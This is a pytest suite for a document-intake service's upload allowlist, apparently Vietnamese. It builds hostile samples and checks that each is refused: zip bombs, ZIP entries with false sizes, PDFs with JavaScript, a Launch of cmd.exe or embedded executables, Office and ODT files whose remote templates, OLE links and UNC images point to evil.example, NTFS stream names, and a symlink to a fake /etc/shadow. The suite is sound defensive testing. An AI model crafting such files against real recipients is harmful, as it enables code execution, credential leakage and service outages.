"""Issue 21: the intake takes only the formats of its allowlist, each read to its end. A test per
bypass family of the campaign (each got through the intake before the change), the cost of
inspecting a hostile upload, the name rules, `cchc attach` on folders and links, and the
docs/intake.md's table of accepted formats held to the code."""

from __future__ import annotations

import io
import os
import re
import time
import zipfile
import zlib
from pathlib import Path

import httpx
import pytest
from hostile_files import (
    ARCHIVES,
    EMBEDDED,
    docx_with,
    pdf_polyglot_zip,
    raw_zip,
    zip_of_zeros,
)
from intake_support import (
    OFFICE_DOCUMENT_REL,
    Clock,
    LiveIntake,
    content_types,
    deliverables,
    docx_bytes,
    exe_bytes,
    multipart,
    odf_bytes,
    pdf_bytes,
    pdf_with,
    relationships,
    stored_files,
    stream_object,
    t,
    xlsx_bytes,
    zip_bytes,
)
from support import cli_env, find_item
from test_intake_attacks import NOW, REPORT, assert_refused, attach, item_status, post_files

from cchc.intake import filetypes
from usecases.sweep import sweep

ROOT = Path(__file__).resolve().parent.parent


@pytest.fixture
def item(plan, engine):
    sweep(plan, engine, t("2027-03-02T07:30"))
    return find_item(engine, REPORT, "VP", "2027-Q1")


@pytest.fixture
def live(plan, engine, tmp_path):
    with LiveIntake(plan, engine, tmp_path / "data", Clock(t(NOW))) as server:
        yield server


@pytest.fixture
def attach_env(tmp_path, sqlite_url, plan):
    """A `cchc` environment on a SQLite database with the VP's Q1 report open."""
    from models.db import ensure_schema, make_engine

    engine = make_engine(sqlite_url)
    ensure_schema(engine)
    sweep(plan, engine, t("2027-03-02T07:30"))
    found = find_item(engine, REPORT, "VP", "2027-Q1")
    engine.dispose()
    return cli_env(tmp_path / "data", sqlite_url), found.id, sqlite_url


def refusal(tmp_path: Path, data: bytes) -> str:
    """Why `sniff` refuses `data` ("" when it is taken)."""
    path = tmp_path / "upload.bin"
    path.write_bytes(data)
    try:
        filetypes.sniff(path)
    except filetypes.Refused as exc:
        return exc.message
    return ""


# ----- archives inside a ZIP, or alone -----------------------------------------------------------


@pytest.mark.parametrize("case", sorted(ARCHIVES))
def test_archives_of_any_kind_are_refused_inside_a_zip_and_alone(case, tmp_path):
    name, data, label = ARCHIVES[case]
    inside = refusal(tmp_path, zip_bytes(("bao-cao.pdf", pdf_bytes()), (name, data)))
    assert inside and name in inside, inside
    alone = refusal(tmp_path, data)
    assert label in alone or "không được nhận" in alone, alone


# ----- a lying central directory -----------------------------------------------------------------


def test_an_entry_declared_smaller_than_it_inflates_is_refused(tmp_path):
    inner = zip_bytes(("setup.exe", exe_bytes()))
    lying = raw_zip([("bang-ke.pdf", inner, 3, zlib.crc32(inner[:3]))])
    assert "kích thước khai báo" in refusal(tmp_path, lying)


def test_a_large_entry_declared_tiny_is_refused_without_inflating_it(tmp_path):
    huge = zip_of_zeros("bang-ke.pdf", 64 * 1024 * 1024)
    head = huge.find(b"PK\x01\x02")  # declare 100 bytes, with their CRC
    lying = bytearray(huge)
    for at in (18 + 4, head + 24):
        lying[at : at + 4] = (100).to_bytes(4, "little")
    for at in (14, head + 16):
        lying[at : at + 4] = zlib.crc32(bytes(100)).to_bytes(4, "little")
    started = time.process_time()
    assert "kích thước khai báo" in refusal(tmp_path, bytes(lying))
    assert time.process_time() - started < 1


def test_hidden_bytes_between_entries_are_refused(tmp_path):
    data = bytearray(zip_bytes(("a.pdf", pdf_bytes()), ("b.pdf", pdf_bytes())))
    second = data.find(b"PK\x03\x04", 4)
    hidden = bytes(data[:second]) + exe_bytes() + bytes(data[second:])
    assert refusal(tmp_path, hidden)


# ----- embedded objects --------------------------------------------------------------------------


@pytest.mark.parametrize("case", sorted(EMBEDDED))
def test_embedded_and_packaged_objects_are_refused(case, tmp_path):
    _, data = EMBEDDED[case]
    assert "đối tượng nhúng" in refusal(tmp_path, data)


# ----- PDF ---------------------------------------------------------------------------------------

JS = (b"<< /S /JavaScript /JS (app.alert(1)) >>",)


@pytest.mark.parametrize(
    "data, says",
    [
        (pdf_with(b"/OpenAction 4 0 R", JS), "JavaScript"),
        (pdf_with(b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", JS), "JavaScript"),
        (pdf_with(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "Launch"),
        (pdf_with(b"/AA << /WC 4 0 R >>", JS), "/AA"),
        (
            pdf_with(
                b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>",
                (
                    b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
                    stream_object(exe_bytes(), b"/Type /EmbeddedFile"),
                ),
            ),
            "tệp đính kèm nhúng",
        ),
        (pdf_with(b"/AcroForm << /Fields [] /XFA 4 0 R >>", (stream_object(b"<xdp/>"),)), "XFA"),
        (pdf_with(b"/OpenAction << /S /URI /URI (https://a.example/) >>"), "liên kết tự mở"),
        (
            pdf_with(objects=(b"<< /Subtype /Link /A << /S /URI /URI (file:///a.exe) >> >>",)),
            "file:",
        ),
        (pdf_polyglot_zip(), "%%EOF"),
        (pdf_with(objects=(stream_object(zip_bytes(("a.exe", exe_bytes()))),)), "ZIP"),
        (pdf_with(comment=b"<html><script>alert(1)</script></html>"), "HTML"),
        (b"<html>" + pdf_bytes(), "Định dạng tệp không được nhận"),
        (b"\n" + pdf_bytes(), "Định dạng tệp không được nhận"),
    ],
    ids=[
        "openaction-js",
        "names-js",
        "launch",
        "additional-actions",
        "embedded-file",
        "xfa",
        "openaction-uri",
        "link-to-file",
        "pdf-zip-appended",
        "pdf-zip-inside",
        "pdf-html",
        "html-pdf",
        "data-before-header",
    ],
)
def test_active_and_polyglot_pdfs_are_refused(data, says, tmp_path):
    assert says in refusal(tmp_path, data)


def test_a_plain_pdf_with_web_links_is_taken(tmp_path):
    link = b"<< /S /URI /URI (https://dichvucong.gov.vn/) >>"
    assert refusal(tmp_path, pdf_with(b"/OpenAction [3 0 R /Fit]", (link,))) == ""


# ----- Office and ODF files that reach outside ---------------------------------------------------

ODT_MIMETYPE = b"application/vnd.oasis.opendocument.text"
ODT_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink"'
)


def odt_with(body: str) -> bytes:
    """An ODT whose content.xml body is `body`."""
    content = f"<office:document-content {ODT_NS}><office:body>{body}</office:body>"
    content += "</office:document-content>"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", ODT_MIMETYPE, compress_type=zipfile.ZIP_STORED)
        archive.writestr("content.xml", content.encode(), compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
W_FIELD = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDE'
    '</w:instrText></w:r><w:r><w:instrText>PICTURE "\\\\\\\\evil\\\\a.png"</w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)


@pytest.mark.parametrize(
    "data, says",
    [
        (
            docx_with(
                settings_rels=[("attachedTemplate", "http://evil.example/t.dotm", "External")]
            ),
            "mẫu văn bản",
        ),
        (
            docx_with(rels=[("oleObject", "mhtml:http://evil.example/x.mht!x.wsf", "External")]),
            "đối tượng",
        ),
        (docx_with(rels=[("image", "\\\\evil.example\\share\\a.png", "External")]), "bên ngoài"),
        (docx_with(rels=[("image", "file:///C:/a.png", "")]), "bên ngoài"),
        (odt_with('<draw:image xlink:href="\\\\evil.example\\share\\a.png"/>'), "bên ngoài"),
        (odt_with('<draw:image xlink:href="http://evil.example/a.png"/>'), "bên ngoài"),
        (odt_with('<text:section-source xlink:href="../khac.odt"/>'), "bên ngoài"),
        (odt_with('<draw:object-ole xlink:href="./Object 1"/>'), "đối tượng nhúng"),
    ],
    ids=[
        "docx-remote-template",
        "docx-mhtml-ole-link",
        "docx-unc-image",
        "docx-file-image",
        "odt-unc-image",
        "odt-remote-image",
        "odt-linked-section",
        "odt-ole-object",
    ],
)
def test_office_files_reaching_outside_are_refused(data, says, tmp_path):
    assert says in refusal(tmp_path, data)


def test_word_fields_that_load_files_are_refused(tmp_path):
    body = f'<w:document xmlns:w="{W_NS}"><w:body>{W_FIELD}</w:body></w:document>'
    data = docx_with()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            payload = body.encode() if info.filename == "word/document.xml" else source.read(info)
            target.writestr(info.filename, payload, compress_type=zipfile.ZIP_DEFLATED)
    assert "INCLUDEPICTURE" in refusal(tmp_path, out.getvalue())


def test_a_template_on_the_senders_own_drive_is_no_remote_template(tmp_path):
    local = ("attachedTemplate", "file:///C:\\Users\\vp\\Mau bao cao.dotx", "External")
    assert refusal(tmp_path, docx_with(settings_rels=[local])) == ""
    for target in ("\\\\evil.example\\t.dotm", "https://evil.example/t.dotm", "file://evil/t"):
        remote = ("attachedTemplate", target, "External")
        assert "mẫu văn bản" in refusal(tmp_path, docx_with(settings_rels=[remote]))


def test_hyperlinks_to_the_web_are_taken(tmp_path):
    data = docx_with(rels=[("hyperlink", "https://dichvucong.gov.vn/", "External")])
    assert refusal(tmp_path, data) == ""
    assert refusal(tmp_path, odt_with('<text:a xlink:href="https://a.example/">a</text:a>')) == ""


# ----- what is accepted --------------------------------------------------------------------------


def picture(kind: str) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (64, 48), "white").save(out, kind)
    return out.getvalue()


PPTX_MAIN = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"


def pptx_bytes() -> bytes:
    ns = "http://schemas.openxmlformats.org/presentationml/2006/main"
    return zip_bytes(
        ("[Content_Types].xml", content_types(("/ppt/presentation.xml", PPTX_MAIN))),
        ("_rels/.rels", relationships((OFFICE_DOCUMENT_REL, "ppt/presentation.xml"))),
        ("ppt/presentation.xml", f'<p:presentation xmlns:p="{ns}"/>'.encode()),
    )


@pytest.mark.parametrize(
    "data, kind",
    [
        (pdf_bytes(), "pdf"),
        (docx_bytes(), "docx"),
        (xlsx_bytes(), "xlsx"),
        (pptx_bytes(), "pptx"),
        (odf_bytes("text"), "odt"),
        (odf_bytes("spreadsheet"), "ods"),
        (picture("PNG"), "png"),
        (picture("JPEG"), "jpeg"),
        (zip_bytes(("a.pdf", pdf_bytes()), ("scan/trang-1.jpg", picture("JPEG"))), "zip"),
    ],
)
def test_each_accepted_format_is_taken(data, kind, tmp_path):
    path = tmp_path / "upload.bin"
    path.write_bytes(data)
    assert filetypes.sniff(path).kind == kind


def test_a_picture_with_something_appended_is_refused(tmp_path):
    for kind in ("PNG", "JPEG"):
        assert "nối sau" in refusal(tmp_path, picture(kind) + zip_bytes(("a.exe", exe_bytes())))


def test_a_zip_entry_named_for_another_format_is_refused(tmp_path):
    says = refusal(tmp_path, zip_bytes(("bao-cao.pdf", docx_bytes())))
    assert "đuôi" in says and ".docx" in says


# ----- bounded cost ------------------------------------------------------------------------------


def test_a_small_zip_holding_a_huge_one_is_refused_at_once(live, engine, item):
    inner = zip_of_zeros("so-lieu.pdf", 250 * 1024 * 1024)
    outer = raw_zip([("ho-so.zip", inner, None, None)], stored=True)
    assert len(outer) < 300 * 1024
    started = time.monotonic()
    response = post_files(live.link(item), *[(f"ho-so-{n}.zip", outer) for n in range(10)])
    assert time.monotonic() - started < 10
    assert_refused(response, live, engine, item, 415, "tệp nén khác")


def test_a_zip_bomb_entry_is_refused_by_its_ratio_before_inflating(tmp_path):
    bomb = zip_of_zeros("bao-cao.pdf", 250 * 1024 * 1024)
    started = time.process_time()
    assert "bom nén" in refusal(tmp_path, bomb)
    assert time.process_time() - started < 1


# ----- names -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "raw_name, says",
    [
        (b"chay.bat.", "kết thúc bằng dấu chấm"),
        (b"chay.bat ", "kết thúc bằng dấu chấm"),
        (b"bao-cao.pdf::$DATA", "dấu hai chấm"),
        (b"bao-cao.pdf:chay.exe", "dấu hai chấm"),
        (b"lien-ket.url", "“.url” không được nhận"),
        (b"chay.py", "“.py” không được nhận"),
        (b"ke-hoach.docm", "macro"),
        (b"NUL.pdf", "tên thiết bị"),
    ],
)
def test_names_windows_reads_otherwise_are_refused(raw_name, says, live, engine, item):
    body, content_type = multipart([(raw_name, pdf_bytes())])
    response = httpx.post(live.link(item), content=body, headers={"content-type": content_type})
    assert response.status_code == 400, response.text[-300:]
    assert says in response.text and "Không có tệp nào được lưu" in response.text
    assert stored_files(live.data_dir) == []


@pytest.mark.parametrize(
    "charset, raw_name",
    [("unicode_escape", b"bao\\ud800cao.pdf"), ("utf-7", b"bao+2AA-cao.pdf"), ("x-junk", b"a.pdf")],
)
def test_names_in_strange_charsets_never_give_a_500(charset, raw_name, live, engine, item):
    body, content_type = multipart([(raw_name, pdf_bytes())])
    headers = {"content-type": f"{content_type}; charset={charset}"}
    response = httpx.post(live.link(item), content=body, headers=headers)
    assert response.status_code in (303, 400), response.text[-300:]
    for row in deliverables(engine, item.id):
        row.original_name.encode("utf-8")  # no lone surrogate was stored


def test_a_name_with_a_lone_surrogate_is_refused():
    with pytest.raises(filetypes.Refused) as refused:
        filetypes.clean_name("bao\ud800cao.pdf")
    assert refused.value.status == 400


# ----- cchc attach -------------------------------------------------------------------------------


def test_attach_on_a_folder_says_so(attach_env, tmp_path):
    env, item_id, _ = attach_env
    folder = tmp_path / "ho-so"
    folder.mkdir()
    for args in ([str(folder)], [str(folder), "--no-check"], [str(folder) + "/"]):
        done = attach(env, str(item_id), *args)
        assert done.returncode == 1, done.stderr
        assert "thư mục" in done.stderr and "Traceback" not in done.stderr


def test_attach_through_a_linked_folder_is_refused(attach_env, tmp_path):
    env, item_id, url = attach_env
    secret = tmp_path / "etc"
    secret.mkdir()
    (secret / "shadow").write_bytes(b"root:$6$secret:19000:0:99999:7:::\n")
    (tmp_path / "etclink").symlink_to(secret)
    done = attach(env, str(item_id), str(tmp_path / "etclink" / "shadow"), "--no-check")
    assert done.returncode == 1 and "symbolic link" in done.stderr, done.stderr
    assert "Traceback" not in done.stderr
    assert item_status(url, item_id) == "open"


def test_attach_cleans_a_legacy_encoded_name(attach_env, tmp_path):
    env, item_id, url = attach_env
    name = "Báo cáo.pdf".encode("cp1258")  # not UTF-8: a name from an old USB stick
    path = os.path.join(os.fsencode(tmp_path), name)
    with open(path, "wb") as out:
        out.write(pdf_bytes())
    done = attach(env, str(item_id), os.fsdecode(path))
    assert done.returncode == 0, done.stderr
    assert "Báo cáo.pdf" in done.stdout
    from models.db import make_engine

    engine = make_engine(url)
    try:
        [row] = deliverables(engine, item_id)
    finally:
        engine.dispose()
    assert (row.original_name, row.file_type) == ("Báo cáo.pdf", "pdf")


# ----- the intake guide's table ----------------------------------------------------------------


def test_the_readme_table_lists_what_the_code_accepts():
    readme = (ROOT / "docs" / "intake.md").read_text(encoding="utf-8")
    section = readme.split("**Accepted formats.**", 1)[1].split("\n\n", 2)[1]
    rows = [line for line in section.splitlines() if line.startswith("| `")]
    listed = {}
    for row in rows:
        cells = [c.strip() for c in row.strip("|").split("|")]
        listed[cells[0].strip("`")] = tuple(re.findall(r"`(\.[a-z]+)`", cells[1]))
    assert listed == {t.kind: t.extensions for t in filetypes.ACCEPTED}


def test_nothing_outside_the_table_is_named_accepted():
    assert set(filetypes.TYPES) == {t.kind for t in filetypes.ACCEPTED}
    assert filetypes.ACCEPT_ATTRIBUTE.split(",") == sorted(
        ext for t in filetypes.ACCEPTED for ext in t.extensions
    )
